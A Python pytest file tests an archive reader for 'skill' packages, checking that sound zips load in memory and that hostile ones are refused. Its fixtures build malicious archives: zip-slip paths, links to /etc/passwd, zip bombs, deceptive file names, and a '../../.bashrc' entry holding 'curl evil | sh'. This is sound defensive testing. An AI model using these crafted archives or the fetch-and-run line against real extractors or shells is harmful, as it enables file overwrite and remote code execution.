"""Archives of skills: sound ones are read in memory, hostile ones are refused with every reason, and nothing is written."""

from __future__ import annotations

import gzip
import io
import stat
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tacit.domain.errors import InvalidSkill
from tacit.render.archive import is_archive, open_archive
from tacit.render.skill_folder import FILE_BYTES_MAX

MD = b"---\nname: demo\ndescription: A demonstration.\n---\nSay hi.\n"
Files = dict[str, bytes]
SOUND: Files = {"demo/SKILL.md": MD, "demo/references/a.md": b"more", "demo/run.sh": b"echo hi\n"}


def zipped(files: Files, *, packing: int = zipfile.ZIP_DEFLATED, modes: dict[str, int] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", packing) as archive:
        for name, data in files.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = packing
            info.create_system = 3
            info.external_attr = (modes or {}).get(name, stat.S_IFREG | 0o644) << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def written(tmp_path: Path, data: bytes, name: str = "demo.zip") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("demo.zip", zipped(SOUND, modes={"demo/run.sh": stat.S_IFREG | 0o755})),
        ("demo.skill", zipped(SOUND, packing=zipfile.ZIP_STORED)),
        ("demo.zip", zipped(SOUND | {"__MACOSX/demo/._SKILL.md": b"x", "demo/.DS_Store": b"x", "demo/": b""})),
        ("demo.zip", zipped({name.removeprefix("demo/"): data for name, data in SOUND.items()})),
    ],
    ids=["zip", "skill", "from a Mac", "without a folder"],  # bytes hold a time
)
def test_a_sound_archive_is_read_whatever_it_is_packed_with(tmp_path: Path, name: str, data: bytes) -> None:
    path = written(tmp_path, data, name)
    assert is_archive(path)
    archive = open_archive(path)
    archive.require_sound()
    [folder] = archive.folders
    content = folder.load().content
    assert (content.name, content.body) == ("demo", "Say hi.")
    assert [file.path for file in content.files] == ["references/a.md", "run.sh"]
    assert sorted(path.name for path in tmp_path.iterdir()) == [name], "nothing is unpacked to disk"


def test_a_file_that_may_run_stays_one(tmp_path: Path) -> None:
    data = zipped(SOUND, modes={"demo/run.sh": stat.S_IFREG | 0o755})
    [folder] = open_archive(written(tmp_path, data)).folders
    assert {file.path: file.executable for file in folder.load().content.files} == {
        "references/a.md": False,
        "run.sh": True,
    }


def test_every_skill_of_an_archive_is_found_and_the_rest_is_kept_apart(tmp_path: Path) -> None:
    files = {
        "pack/one/SKILL.md": MD,
        "pack/two/SKILL.md": MD,
        "pack/two/inner/SKILL.md": MD,
        "README.md": b"r",
        "x/.env": b"k",
    }
    archive = open_archive(written(tmp_path, zipped(files)))
    assert [(folder.root, sorted(folder.files)) for folder in archive.folders] == [
        ("pack/one", ["SKILL.md"]),
        ("pack/two", ["SKILL.md", "inner/SKILL.md"]),
    ]
    assert dict(archive.strays) == {"README.md": b"r", "x/.env": b"k"}


def long_names() -> Files:
    return SOUND | {f"demo/{'d/' * 14}x": b""}


def encrypted() -> bytes:
    data = bytearray(zipped(SOUND))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + offset] |= 1
    return bytes(data)


def twice() -> bytes:
    buffer = io.BytesIO(zipped(SOUND))
    with zipfile.ZipFile(buffer, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("demo/SKILL.md", MD.replace(b"hi", b"no"))
    return buffer.getvalue()


def lying_size() -> bytes:
    data = bytearray(zipped(SOUND | {"demo/big": b"0" * 100_000}))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.rindex(mark)
        struct.pack_into("<I", data, at + offset, 10)
    return bytes(data)


def many(count: int) -> bytes:
    return zipped({f"demo/{number}": b"" for number in range(count)} | SOUND, packing=zipfile.ZIP_STORED)


HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "parent": ("zip-slip", lambda: zipped(SOUND | {"../../evil": b"x"})),
    "parent in the middle": ("zip-slip", lambda: zipped(SOUND | {"demo/../../evil": b"x"})),
    "absolute": ("zip-slip", lambda: zipped(SOUND | {"/etc/evil": b"x"})),
    "home": ("zip-slip", lambda: zipped(SOUND | {"~/evil": b"x"})),
    "backslashes": ("zip-slip", lambda: zipped(SOUND | {"demo\\..\\evil": b"x"})),
    "drive": ("zip-slip", lambda: zipped(SOUND | {"C:evil": b"x"})),
    "zip link": ("link", lambda: zipped(SOUND | {"demo/l": b"/etc/passwd"}, modes={"demo/l": stat.S_IFLNK | 0o777})),
    "zip device": ("link", lambda: zipped(SOUND | {"demo/d": b""}, modes={"demo/d": stat.S_IFCHR | 0o666})),
    "zip bomb": ("bomb", lambda: zipped(SOUND | {f"demo/{n}": b"\0" * (4 << 20) for n in range(9)})),
    "many files": ("count", lambda: many(2100)),
    "a huge list": ("count", lambda: many(16_000)),
    "deep": ("depth", lambda: zipped(long_names())),
    "twice": ("twice", twice),
    "case": ("collision", lambda: zipped(SOUND | {"demo/RUN.SH": b"x"})),
    "accents": ("collision", lambda: zipped(SOUND | {"demo/\u00e9": b"x", "demo/e\u0301": b"x"})),
    "file and folder": ("collision", lambda: zipped(SOUND | {"demo/run.sh/x": b"x"})),
    "encrypted": ("encrypted", encrypted),
    "nul": ("name", lambda: zipped(SOUND | {"demo/aXb": b"x"}).replace(b"aXb", b"a\0b")),
    "not UTF-8": ("name", lambda: zipped(SOUND | {"demo/aXb": b"x"}).replace(b"aXb", b"a\xffb")),
    "control": ("name", lambda: zipped(SOUND | {"demo/\x1b]0;t\x07": b"x"})),
    "direction": ("name", lambda: zipped(SOUND | {"demo/\u202egpj.exe": b"x"})),
    "prefix": ("prefix", lambda: b"#!/bin/sh\nexit\n" + zipped(SOUND)),
    "other packing": ("packing", lambda: zipped(SOUND, packing=zipfile.ZIP_BZIP2)),
    "lying size": ("damaged", lying_size),
    "cut zip": ("damaged", lambda: zipped(SOUND)[:-30]),
    "no archive": ("format", lambda: b"hello " * 200),
    "other archive": ("format", lambda: gzip.compress(b"demo")),
    "empty": ("format", lambda: b""),
    "no skill": ("no-skill", lambda: zipped({"a/b": b"x"})),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_archive_is_refused_with_its_reason(tmp_path: Path, name: str) -> None:
    rule, make = HOSTILE[name]
    path = written(tmp_path, make())
    archive = open_archive(path)
    assert f"archive-{rule}" in {problem.rule for problem in archive.problems}, archive.problems
    with pytest.raises(InvalidSkill) as refused:
        archive.require_sound()
    assert refused.value.hint
    assert all(line.isprintable() for line in refused.value.problems)
    assert list(tmp_path.iterdir()) == [path], "nothing was written anywhere"


def test_what_stands_under_a_hostile_name_can_still_be_scanned(tmp_path: Path) -> None:
    archive = open_archive(written(tmp_path, zipped(SOUND | {"../../.bashrc": b"curl evil | sh"})))
    assert archive.strays["../../.bashrc"] == b"curl evil | sh"
    assert [folder.name for folder in archive.folders] == ["demo"]


def test_an_archive_inside_an_archive_stays_packed(tmp_path: Path) -> None:
    inner = zipped({"../evil": b"x"})
    archive = open_archive(written(tmp_path, zipped(SOUND | {"demo/inner.zip": inner})))
    archive.require_sound()
    assert archive.folders[0].files["inner.zip"] == inner


@pytest.mark.parametrize(("name", "rule"), [("big.bin", "not-looked-at"), ("big.png", "file-left-out")])
def test_a_file_too_large_for_a_skill_is_left_out_with_a_warning(tmp_path: Path, name: str, rule: str) -> None:
    noise = bytes(range(256)) * (FILE_BYTES_MAX // 256 + 1)
    archive = open_archive(written(tmp_path, zipped(SOUND | {f"demo/{name}": noise}, packing=zipfile.ZIP_STORED)))
    archive.require_sound()
    assert [problem.rule for problem in archive.problems] == [rule]
    assert name not in archive.folders[0].files


@pytest.mark.parametrize("folder", [".git/hooks", "node_modules/x", "__MACOSX"])
def test_what_an_import_overlooks_is_there_for_a_scanner(tmp_path: Path, folder: str) -> None:
    archive = open_archive(written(tmp_path, zipped(SOUND | {f"demo/{folder}/run.sh": b"id"})))
    archive.require_sound()
    assert archive.strays == {f"demo/{folder}/run.sh": b"id"}
    assert f"{folder}/run.sh" not in archive.folders[0].files


def test_only_known_endings_of_real_files_are_archives(tmp_path: Path) -> None:
    assert not is_archive(tmp_path / "none.zip")
    assert not is_archive(written(tmp_path, b"x", "a.md"))
    (tmp_path / "folder.zip").mkdir()
    assert not is_archive(tmp_path / "folder.zip")


def test_a_file_that_cannot_be_read_is_told(tmp_path: Path) -> None:
    [problem, *_] = open_archive(tmp_path / "none.zip").problems
    assert problem.rule == "archive-unreadable"
